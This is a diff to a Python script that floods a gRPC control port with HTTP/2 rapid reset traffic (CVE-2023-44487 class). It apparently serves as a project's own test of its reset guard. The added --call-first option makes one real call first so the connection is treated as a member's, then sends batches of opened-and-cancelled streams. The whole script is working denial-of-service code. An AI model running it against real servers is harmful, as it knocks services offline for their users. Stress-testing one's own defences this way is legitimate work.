@@ -1,7 +1,7 @@
 #!/usr/bin/env python3
 """HTTP/2 rapid reset (the CVE-2023-44487 class) against a gRPC control port.
 
-Usage: epd_rapid_reset.py HOST:PORT STREAMS [--batch N] [--path P]
+Usage: epd_rapid_reset.py HOST:PORT STREAMS [--batch N] [--path P] [--call-first]
 
 Opens TCP connections to HOST:PORT and, on each, sends the HTTP/2 client
 preface, an empty SETTINGS, then HEADERS (a gRPC call's request headers,
@@ -9,7 +9,11 @@ HPACK literals never indexed: no header table state) followed at once by
 RST_STREAM(CANCEL) for the same stream, BATCH pairs per write, until STREAMS
 streams were opened in all.  When the server closes a connection (GOAWAY or
 EOF, the guard's answer to a reset flood) the next one is opened, so the
-burst is STREAMS streams however the server sheds it.  The server's frames
+burst is STREAMS streams however the server sheds it.  --call-first makes
+one whole unary call (an empty message to --path) on each connection and
+waits for its answer before the burst: against a server without a cluster
+secret that makes the connection a member's, which only the reset limit
+(--control-max-resets) bounds.  The server's frames
 are read and dropped on a thread (its writes must never block on us).
 
 Prints one line: streams=N conns=N goaways=N closed_by_server=N.
@@ -51,6 +55,7 @@ class Reader(threading.Thread):
     def __init__(self, sock):
         super().__init__(daemon=True)
         self.sock = sock
+        self.answered = threading.Event()  # stream 1's END_STREAM from the server
         self.goaway = False
         self.closed = False
         self.lock = threading.Lock()
@@ -68,15 +73,19 @@ class Reader(threading.Thread):
                     if len(buf) < 9 + n:
                         break
                     ftype, flags = buf[3], buf[4]
+                    sid = struct.unpack(">I", buf[5:9])[0] & 0x7FFFFFFF
                     buf = buf[9 + n:]
                     if ftype == SETTINGS and not flags & ACK:
                         with self.lock:
                             self.sock.sendall(frame(SETTINGS, ACK, 0))
                     elif ftype == GOAWAY:
                         self.goaway = True
+                    elif ftype in (DATA, HEADERS) and flags & 0x1 and sid == 1:
+                        self.answered.set()
         except OSError:
             pass
         self.closed = True
+        self.answered.set()
 
 
 def main():
@@ -85,9 +94,13 @@ def main():
         return 2
     host, port = sys.argv[1].rsplit(":", 1)
     total = int(sys.argv[2])
-    batch, path = 500, b"/epd.Control/Health"
+    batch, path, call_first = 500, b"/epd.Control/Health", False
     args = sys.argv[3:]
     while args:
+        if args[0] == "--call-first":
+            call_first = True
+            args = args[1:]
+            continue
         if args[0] == "--batch":
             batch = int(args[1])
         elif args[0] == "--path":
@@ -112,6 +125,15 @@ def main():
         try:
             with reader.lock:
                 sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
+            if call_first:
+                # an empty message: compressed flag 0, length 0; END_STREAM
+                with reader.lock:
+                    sock.sendall(frame(HEADERS, END_HEADERS, 1, block) +
+                                 frame(DATA, 0x1, 1, b"\0\0\0\0\0"))
+                if not reader.answered.wait(60) or reader.closed:
+                    print("no answer to the first call")
+                    return 1
+                sid = 3
             while sent < total and sid < 0x7FFFFFF0:
                 n = min(batch, total - sent)
                 out = bytearray()
